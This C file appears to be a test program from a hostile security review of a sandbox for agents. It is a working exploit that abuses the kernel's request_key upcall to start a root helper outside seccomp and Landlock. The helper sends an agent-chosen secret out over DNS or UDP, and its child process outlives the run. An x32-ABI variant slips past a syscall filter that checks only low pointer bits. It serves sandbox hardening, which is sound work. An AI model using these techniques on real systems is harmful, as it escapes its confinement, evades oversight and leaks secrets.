/* key-upcall: the kernel's request_key upcall (hostile review h-attack12).
 *
 * The agent makes no socket call at all: request_key(2) with a callout
 * string makes the kernel, finding no such key, start /sbin/request-key as
 * a usermode helper (full root, the initial user, pid, mount and network
 * namespaces, no seccomp filter, no Landlock domain, not in the agent's
 * tree) with the key's type and description and the callout string, all
 * chosen by the agent (security/keys/request_key.c, call_sbin_request_key:
 * no capability check). keyutils' stock /etc/request-key.conf hands type
 * "dns_resolver" to /sbin/key.dns_resolver, which resolves the description
 * through the host's resolver: a DNS query for the attacker's zone that no
 * mediated call made.
 *
 *   key-upcall user SECRET      request_key("user", "ha12:SECRET", "SECRET")
 *   key-upcall x32-hi SECRET    the same on the x32 ABI (249 | 0x40000000),
 *                               the callout at 0x100000000: a pointer whose
 *                               low 32 bits are 0, which a filter that
 *                               compares x32's arguments by their low word
 *                               takes for NULL while the kernel's x32 entry
 *                               (the native handler) reads all 64 bits
 *                               (review h-attack70)
 *   key-upcall lookup SECRET    request_key("user", "ha12:SECRET", NULL): a
 *                               lookup without a callout never starts a
 *                               helper (the control: not trapped, ENOKEY)
 *   key-upcall install DEST     root service (guest cell): copies itself to
 *                               /sbin/request-key as the stand-in helper
 *                               (keyutils is not installed there), writes
 *                               DEST to /etc/ha12-keyreq.dest, holds a UDP
 *                               socket on 127.0.0.1:9998 (the guest's
 *                               readiness test) and sleeps
 *
 * Helper mode (argv[0] ends in "request-key"): the stand-in for keyutils'
 * request-key. It reads the description and the callout string through the
 * authorisation key the kernel hands it, records its credentials and
 * namespaces in /tmp/ha12/helper.log (when /tmp/ha12 exists), sends them as
 * one UDP datagram to DEST:9999 (127.0.0.2 unless /etc/ha12-keyreq.dest
 * says otherwise) and leaves a child that beats for 3 s, to show that it
 * outlives whatever run asked for it. */
#include "agentlib.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define DEST_FILE "/etc/ha12-keyreq.dest"

static long keyctl(long op, long a, long b, long c, long d)
{
	return syscall(SYS_keyctl, op, a, b, c, d);
}

static void link_of(const char *path, char *out, size_t len)
{
	ssize_t n = readlink(path, out, len - 1);

	out[n > 0 ? n : 0] = '\0';
}

static int helper(int argc, char **argv)
{
	char desc[512] = "", callout[512] = "", net[64], pidns[64], user[64], msg[2048];
	long key, auth;
	FILE *log = fopen("/tmp/ha12/helper.log", "a");

	if (argc < 3)
		return 1;
	key = strtol(argv[2], NULL, 10);
	keyctl(KEYCTL_ASSUME_AUTHORITY, key, 0, 0, 0);
	if (keyctl(KEYCTL_DESCRIBE, key, (long)desc, sizeof(desc) - 1, 0) < 0)
		snprintf(desc, sizeof(desc), "describe:%s", strerror(errno));
	auth = keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_REQKEY_AUTH_KEY, 0, 0, 0);
	if (auth < 0 || keyctl(KEYCTL_READ, auth, (long)callout, sizeof(callout) - 1, 0) < 0)
		snprintf(callout, sizeof(callout), "read:%s", strerror(errno));
	link_of("/proc/self/ns/net", net, sizeof(net));
	link_of("/proc/self/ns/pid", pidns, sizeof(pidns));
	link_of("/proc/self/ns/user", user, sizeof(user));
	snprintf(msg, sizeof(msg),
		 "request-key helper pid %d ppid %d uid %d euid %d %s %s %s requester uid %s desc "
		 "'%s' callout '%s'",
		 getpid(), getppid(), getuid(), geteuid(), net, pidns, user,
		 argc > 3 ? argv[3] : "?", desc, callout);
	if (log) {
		fprintf(log, "%s\n", msg);
		fflush(log);
	}
	agent_helper_send(DEST_FILE, msg);
	if (fork() == 0) {
		for (int i = 0; i < 6; i++) {
			if (log) {
				fprintf(log, "heartbeat %d pid %d ppid %d\n", i, getpid(),
					getppid());
				fflush(log);
			}
			usleep(500 * 1000);
		}
		_exit(0);
	}
	return 1; /* the key stays uninstantiated: the agent gets ENOKEY */
}

static int install(const char *dest)
{
	int err = agent_install_self("/sbin/request-key", DEST_FILE, dest);

	if (err) {
		fprintf(stderr, "install: %s\n", strerror(-err));
		return 1;
	}
	printf("installed /sbin/request-key, helper destination %s:9999\n", dest);
	agent_hold_ready();
	return 0;
}

/* x32's request_key (syscall_64.tbl: common 249), and the bit that makes a
 * call an x32 one. */
#define X32_SYSCALL_BIT 0x40000000L
#define X32_NR_REQUEST_KEY 249L

int main(int argc, char **argv)
{
	const char *mode = argc > 1 ? argv[1] : "user";
	const char *arg = argc > 2 ? argv[2] : "agent-secret-0042";
	size_t l = strlen(argv[0]);
	char desc[256];
	long rc;

	if (l >= 11 && strcmp(argv[0] + l - 11, "request-key") == 0)
		return helper(argc, argv);
	if (strcmp(mode, "install") == 0)
		return install(arg);
	/* A session keyring of the agent's own, as `keyctl new_session` or a
	 * login gives; one inherited from another uid is not searchable. */
	if (getenv("HA12_SAME_SESSION") == NULL)
		keyctl(KEYCTL_JOIN_SESSION_KEYRING, 0, 0, 0, 0);
	snprintf(desc, sizeof(desc), "ha12:%s", arg);
	if (strcmp(mode, "x32-hi") == 0) {
		char *high = mmap((void *)0x100000000UL, 4096, PROT_READ | PROT_WRITE,
				  MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);

		if (high != (void *)0x100000000UL) {
			printf("agent: no page at 0x100000000: %s\n", strerror(errno));
			return 2;
		}
		snprintf(high, 4096, "%s", arg);
		rc = syscall(X32_SYSCALL_BIT | X32_NR_REQUEST_KEY, "user", desc, high,
			     KEY_SPEC_PROCESS_KEYRING);
	} else {
		rc = syscall(SYS_request_key, "user", desc,
			     strcmp(mode, "lookup") == 0 ? NULL : arg, KEY_SPEC_PROCESS_KEYRING);
	}
	printf("agent uid %d: request_key(%s, %s) = %ld (%s)\n", getuid(), mode, desc, rc,
	       rc < 0 ? strerror(errno) : "ok");
	return 0;
}
